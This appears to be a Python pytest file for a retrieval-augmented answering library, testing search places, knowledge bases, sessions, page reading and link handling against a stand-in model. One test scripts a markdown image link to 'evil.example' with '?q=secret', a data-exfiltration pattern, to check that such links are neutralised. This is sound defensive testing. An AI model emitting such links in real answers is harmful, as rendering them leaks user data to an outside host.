"""`Orchestra.ask` and what it stands on: places by name or of one's own, knowledge, pages, a dialogue; and links in answers."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from orchestra import Orchestra, Passage
from orchestra.errors import KnowledgeMissing, UsageError
from orchestra.model.messages import Language, Message, Piece, gathered
from orchestra.retrieval import excerpts, looking
from orchestra.retrieval.looking import Lookup
from orchestra.retrieval.passages import Attempt, Findings
from orchestra.retrieval.pipeline import Answer
from orchestra.retrieval.places import places
from orchestra.runtime import Blocking, finish
from orchestra.settings import Settings
from orchestra.standin import StandIn

QUESTION = "What is the capital of France?"
ANSWER = "The capital of France is Paris. [1]"
FRANCE = Passage(text="Paris is the capital of France.", title="France", url="https://example.org/france")


@pytest.fixture
def daemon() -> Iterator[StandIn]:
    with StandIn() as daemon:
        yield daemon


@pytest.fixture
def orchestra(daemon: StandIn) -> Iterator[Orchestra]:
    with Orchestra(host=daemon.url) as orchestra:
        yield orchestra


class Provider:
    """A provider of one's own."""

    name = "mine"
    leaves = False

    def __init__(self, *passages: Passage, seconds: float = 0.0) -> None:
        self.passages, self.seconds = passages or (FRANCE,), seconds
        self.asked: list[str] = []

    def search(self, query: str, *, results: int) -> Sequence[Passage]:
        self.asked.append(query)
        time.sleep(self.seconds)
        return self.passages[:results]


class Place:
    """A retriever of one's own."""

    name = "place"

    def __init__(self, *passages: Passage) -> None:
        self.passages = passages

    async def retrieve(self, queries: Sequence[str], *, results: int, language: Language) -> Findings:
        return Findings(passages=self.passages, attempts=(Attempt(name=self.name, query=queries[0], outcome="found"),))


def names(answer: Answer) -> list[str]:
    return [attempt.name for attempt in answer.ledger.attempts]


# --- places


def test_places_by_name_of_ones_own_and_together(orchestra: Orchestra, daemon: StandIn) -> None:
    daemon.script(*[ANSWER] * 5)
    assert names(orchestra.ask(QUESTION, search="offline")) == ["offline"]
    assert names(orchestra.ask(QUESTION)) == ["offline"], "as the environment says"
    assert names(orchestra.ask(QUESTION, search=Provider())) == ["mine"]
    assert names(orchestra.ask(QUESTION, search=Place(FRANCE))) == ["place"]
    both = orchestra.ask(QUESTION, search=["offline", Provider(), Place(FRANCE)])
    assert sorted(names(both)) == ["mine", "offline", "place"]
    assert [source.url for source in both.sources].count(FRANCE.url) == 1, "found twice, told once"


def test_several_places_take_the_slowest_ones_time(orchestra: Orchestra, daemon: StandIn) -> None:
    daemon.script(ANSWER)
    answer = orchestra.ask(QUESTION, search=[Provider(seconds=0.2), Provider(seconds=0.2), Provider(seconds=0.2)])
    assert 0.2 <= answer.ledger.times["retrieve"] < 0.4


@pytest.mark.parametrize("search", ["nowhere", object(), 7, ["offline", None]])
def test_what_cannot_search_is_refused(orchestra: Orchestra, search: Any) -> None:
    with pytest.raises(UsageError):
        orchestra.ask(QUESTION, search=search)


def test_none_is_nowhere() -> None:
    runtime = Blocking()
    assert places("none", Settings(), runtime) == ()
    assert len(places(["none", "offline"], Settings(), runtime)) == 1
    finish(runtime.close())


# --- knowledge


@pytest.fixture
def manual(orchestra: Orchestra, tmp_path: Path) -> Path:
    path = tmp_path / "lamp.md"
    path.write_text("# Lumo 3\n\n## Warranty\n\nThe lamp has a warranty of 30 months.\n\n## 清洁\n\n请用干布清洁灯罩。\n", "utf-8")
    orchestra.knowledge.add(path, name="manuals")
    return path


@pytest.mark.usefixtures("manual")
def test_knowledge_alone_asks_nobody_else(orchestra: Orchestra, daemon: StandIn) -> None:
    daemon.script("The lamp has a warranty of 30 months. [1]")
    answer = orchestra.ask("How long is the warranty of the lamp?", knowledge="manuals")
    assert set(names(answer)) == {"manuals"}
    assert answer.citations[0].found == "yes"
    assert answer.sources[0].url.endswith("lamp.md")
    content = daemon.asked("/api/chat")[0]["messages"][-1]["content"]
    assert "Warranty" in content
    assert str(Path(answer.sources[0].url).parent) not in content, "the model need not know where files lie"


@pytest.mark.usefixtures("manual")
def test_knowledge_and_search_together(orchestra: Orchestra, daemon: StandIn) -> None:
    daemon.script(ANSWER, ANSWER)
    assert set(names(orchestra.ask("What is the warranty?", knowledge=["manuals"], search="offline", strategy="direct"))) == {"manuals", "offline"}
    assert set(names(orchestra.ask("What is the warranty?", knowledge=["manuals"], search="none", strategy="direct"))) == {"manuals"}


def test_a_knowledge_base_that_is_not_there_is_said_at_once(orchestra: Orchestra, daemon: StandIn) -> None:
    with pytest.raises(KnowledgeMissing):
        orchestra.ask(QUESTION, knowledge="nothing")
    assert daemon.asked("/api/chat") == []


# --- a dialogue


def test_a_question_in_a_session_is_a_turn_of_it(orchestra: Orchestra, daemon: StandIn) -> None:
    daemon.script(ANSWER, json.dumps({"query": "What is the capital of Germany?"}), "Berlin. [1]")
    first = orchestra.ask(QUESTION, search="offline", session="trip")
    second = orchestra.ask("And of Germany?", search="offline", session="trip")
    assert first.sources[0].title == "France"
    assert (second.ledger.rewritten, second.sources[0].title) == ("What is the capital of Germany?", "Germany")
    assert second.receipt.calls == second.ledger.calls == 2
    turns = orchestra.store.history("trip")
    assert [turn.question for turn in turns] == [QUESTION, "And of Germany?"]
    assert turns[0].ground is not None
    assert turns[0].ground["sources"][0]["title"] == "France"
    assert turns[0].ground["citations"][0]["found"] == "yes"
    assert [turn.ground["ledger"]["calls"] for turn in turns if turn.ground] == [1, 2]
    last = daemon.asked("/api/chat")[-1]["messages"]
    assert [message["role"] for message in last] == ["user", "assistant", "user"]
    assert "-----" not in last[0]["content"], "passages are not kept in the history"
    assert last[2]["content"].startswith("And of Germany?\n\nBelow are sources")


def test_a_draft_in_a_session_stands_after_the_sources(orchestra: Orchestra, daemon: StandIn) -> None:
    daemon.script("Lyon, I think [3].", json.dumps({"keywords": ["Paris"]}), ANSWER)
    answer = orchestra.ask(QUESTION, search="offline", session="trip", strategy="draft")
    assert (answer.ledger.draft, answer.receipt.calls) == ("Lyon, I think [3].", 3)
    content = daemon.asked("/api/chat")[-1]["messages"][-1]["content"]
    assert content.index("end of sources") < content.index("Lyon, I think (3).")


def test_small_talk_in_a_session_looks_nothing_up(orchestra: Orchestra, daemon: StandIn) -> None:
    daemon.script("Hello.")
    answer = orchestra.ask("Hi!", search="offline", session="trip")
    assert not answer.ledger.attempts
    assert not answer.sources
    assert answer.receipt.notes == ("not searched",)
    assert daemon.asked("/api/chat")[0]["messages"][-1]["content"] == "Hi!\n\nAnswer in English."
    assert orchestra.store.history("trip")[0].ground is None


def test_what_was_said_may_be_given(orchestra: Orchestra, daemon: StandIn) -> None:
    daemon.script(json.dumps({"query": "What is the capital of Germany?"}), "Berlin. [1]")
    said = [Message("user", QUESTION), Message("assistant", "Paris.")]
    answer = orchestra.ask("And of Germany?", search="offline", said=said)
    assert answer.sources[0].title == "Germany"


# --- pages


def test_the_pages_of_the_best_hits_are_read_once(monkeypatch: pytest.MonkeyPatch, orchestra: Orchestra, daemon: StandIn) -> None:
    read: list[list[str]] = []

    async def parts(passages: Sequence[Passage], *, query: str, pages: object) -> Any:
        read.append([passage.url for passage in passages])
        found = [Passage(text=f"Page of {p.title}: {p.text}", title=p.title, url=p.url, place="part 1 of 2") for p in passages]
        more = [Passage(text=f"{p.title} has more to tell.", title=p.title, url=p.url, place="part 2 of 2") for p in passages]
        return [*found, *more], [Attempt(name="pages", query=p.url, outcome="found", hits=2) for p in passages]

    monkeypatch.setattr("orchestra.api.enriched", parts)
    daemon.script("The sources do not say.", json.dumps({"keywords": ["Paris"]}))
    note = Passage(text="A note of one's own on France.", title="Note", url="orchestra:note.md")
    answer = orchestra.ask(QUESTION, search=Place(FRANCE, note), pages=True)
    assert read == [[FRANCE.url]], "of the web's alone, and not again in the second round"
    assert [hit.place for hit in answer.ledger.kept] == ["part 1 of 2", "", "part 2 of 2"]
    assert "pages" in names(answer)
    assert "Page of France" in daemon.asked("/api/chat")[0]["messages"][-1]["content"]
    assert excerpts.enriched is not parts


def test_no_page_is_read_unless_asked_for(monkeypatch: pytest.MonkeyPatch, orchestra: Orchestra, daemon: StandIn) -> None:
    monkeypatch.setattr(looking, "MOST_PAGES", None)
    daemon.script(ANSWER)
    assert names(orchestra.ask(QUESTION, search=Place(FRANCE))) == ["place"]
    assert Lookup().pages is None


# --- links in the answer (row R10)


@pytest.mark.parametrize("session", ["", "trip"])
def test_links_that_are_no_sources_are_shown_as_text(orchestra: Orchestra, daemon: StandIn, session: str) -> None:
    evil = "![x](https://evil.example/?q=secret) [more](https://evil.example/) and [France](https://example.org/france) [1]."
    daemon.script(f"The capital of France is Paris. [1] {evil}")
    parts = list(orchestra.ask_stream(QUESTION, search=Place(FRANCE), session=session))
    answer = parts[-1]
    assert isinstance(answer, Answer)
    streamed = gathered([part for part in parts if isinstance(part, Piece)]).text
    assert streamed == answer.text
    assert "](https://evil" not in answer.text
    assert "[France](https://example.org/france)" in answer.text


def test_a_typed_answer_is_left_as_it_is(orchestra: Orchestra, daemon: StandIn) -> None:
    daemon.script('{"url": "https://evil.example/"}')
    schema = {"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"]}
    answer = orchestra.ask(QUESTION, search=Place(FRANCE), schema=schema)
    assert answer.value == {"url": "https://evil.example/"}
